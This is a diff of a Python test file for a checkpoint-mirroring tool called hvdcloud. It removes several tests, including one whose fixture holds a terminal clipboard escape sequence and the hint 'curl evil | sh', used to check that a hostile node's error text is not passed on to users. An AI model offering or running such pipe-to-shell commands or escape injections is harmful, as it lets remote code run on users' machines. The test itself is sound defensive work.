@@ -12,7 +12,6 @@ from dataclasses import asdict
 from pathlib import Path
 from typing import Any
 
-import paramiko
 import pytest
 
 from hvdcloud.checkpoints.manifest import (
@@ -28,7 +27,7 @@ from hvdcloud.checkpoints.manifest import (
 from hvdcloud.checkpoints.pull import pull
 from hvdcloud.checkpoints.verified_files import VerifiedFiles
 from hvdcloud.cluster.state import ClusterState
-from hvdcloud.errors import CapacityError, CheckpointError, HvdcloudError, NodeError
+from hvdcloud.errors import CapacityError, CheckpointError, NodeError
 from hvdcloud.node.uploads.restore import restore
 from hvdcloud.node.uploads.serve import RECEIVED
 from hvdcloud.remote.mirror import Mirror
@@ -39,7 +38,7 @@ from hvdcloud.storage.folder import FolderBucket
 from hvdcloud.storage.folder_tree import TEMPORARY
 from hvdcloud.storage.replica import Original, Replicas
 from tests.support.node_buckets import BucketNode, NewNode
-from tests.support.vanishing import RUN, Laptop, Vm
+from tests.support.vanishing import RUN, Laptop
 
 PREFIX = run_prefix("digits", RUN)
 
@@ -148,42 +147,6 @@ def test_nodes_are_reached_while_more_files_are_open_than_select_knows(home: Sce
         for _ in range(1100):
             stack.enter_context(Path(os.devnull).open())
         assert here.bring() == 1
-
-
-def test_only_what_is_new_comes(home: Scene) -> None:
-    here, (head, _) = home
-    head.write({"a": b"a" * 5000}, complete=False)
-    came: list[int] = []
-    here.bring(on_bytes=came.append)
-    assert sum(came) == 5000
-    came.clear()
-    assert here.bring(on_bytes=came.append) == 0
-    head.write({"b": b"b" * 70})
-    assert here.bring(on_bytes=came.append) == 1
-    assert sum(came) == 70
-    assert here.pulled() == {"a": b"a" * 5000, "b": b"b" * 70}
-
-
-def test_a_file_that_is_written_again_replaces_the_one_that_is_here(home: Scene) -> None:
-    here, (head, _) = home
-    head.write({"last.pt": b"first"}, complete=False)
-    here.bring()
-    head.write({"last.pt": b"second, and longer"})
-    here.bring()
-    assert here.pulled() == {"last.pt": b"second, and longer"}
-
-
-def test_what_had_arrived_when_the_connection_broke_is_not_sent_again(home: Scene) -> None:
-    here, (head, _) = home
-    data = random.Random(7).randbytes(6_000_000)
-    head.write({"large.pt": data, "small.pt": b"s"})
-    head.cut_after = 4_000_000
-    with pytest.raises(NodeError):
-        here.bring()
-    came: list[int] = []
-    here.bring(on_bytes=came.append)
-    assert 0 < sum(came) < len(data)
-    assert here.pulled() == {"large.pt": data, "small.pt": b"s"}
 
 
 @pytest.mark.parametrize("cut", [10, 400, 3_000, 20_000, 60_000, 119_000])
@@ -297,45 +260,6 @@ def test_links_of_a_job_are_neither_followed_there_nor_here(home: Scene, tmp_pat
     assert (manifest.complete, list(manifest.files)) == (False, [])
 
 
-def test_what_a_node_says_of_other_clusters_and_of_strange_runs_is_ignored(home: Scene) -> None:
-    here, (head, _) = home
-    for run in ("20261121-101112-ffffff", "..", "x", "20261121-101112-abcdef\n"):
-        folder = head.bucket.root / "digits" / run / ".hvdcloud"
-        folder.mkdir(parents=True, exist_ok=True)
-        (folder / "manifest-0.json").write_bytes(b"{}")
-    assert here.bring() == 0
-    assert list(here.bucket.list("")) == []
-
-
-ANSWERS = {
-    "no line": b"",
-    "not JSON": b"\x00\x01\n",
-    "an endless line": b"x" * (1 << 20),
-    "a list": b"[]\n",
-    "an error": b'{"error": "no \\u001b]52;c;cm0=\\u0007", "hint": "curl evil | sh"}\n',
-}
-
-
-@pytest.mark.parametrize("said", ANSWERS.values(), ids=ANSWERS.keys())
-def test_a_node_that_answers_nonsense_is_an_error_and_nothing_else(laptop: Laptop, said: bytes) -> None:
-    def nonsense(channel: paramiko.Channel) -> None:
-        channel.sendall(said)
-        channel.send_exit_status(0)
-        channel.close()
-
-    vm = Vm({"hvdcloud-node": nonsense})
-    try:
-        context, cluster, _ = laptop.context([vm])
-        session = Session(cluster.nodes[0], context.state)
-        with pytest.raises(HvdcloudError) as raised:
-            Mirror(FolderBucket(laptop.folder / "bucket"), cluster="digits", cluster_id="abcdef").bring(session)
-        assert raised.value.code is NodeError.code
-        assert "curl" not in raised.value.hint
-        session.close()
-    finally:
-        vm.close()
-
-
 def test_a_node_that_sends_more_than_it_was_asked_for_is_cut_off(home: Scene, monkeypatch: pytest.MonkeyPatch) -> None:
     here, (head, _) = home
     head.write({"large.pt": b"x" * 200_000})
@@ -388,15 +312,6 @@ def test_a_node_whose_own_manifest_is_newer_keeps_it(home: Scene) -> None:
     newer = head.bucket.read(manifest_name("digits", RUN, 0))
     here.send(0)
     assert head.bucket.read(manifest_name("digits", RUN, 0)) == newer
-
-
-def test_the_node_program_refuses_what_is_not_a_request(home: Scene) -> None:
-    _, (head, _) = home
-    for request in (b"\n", b"[]\n", b'{"op": "delete"}\n', b'{"op": "lacks"}\n', b'{"op": "keep", "objects": [{}]}\n'):
-        process = head.start("bucket")
-        out, _ = process.communicate(request, timeout=60)
-        assert "error" in json.loads(out), request
-        assert process.returncode == 1
 
 
 def test_damaged_bytes_that_are_sent_to_a_node_do_not_become_an_object(home: Scene) -> None:
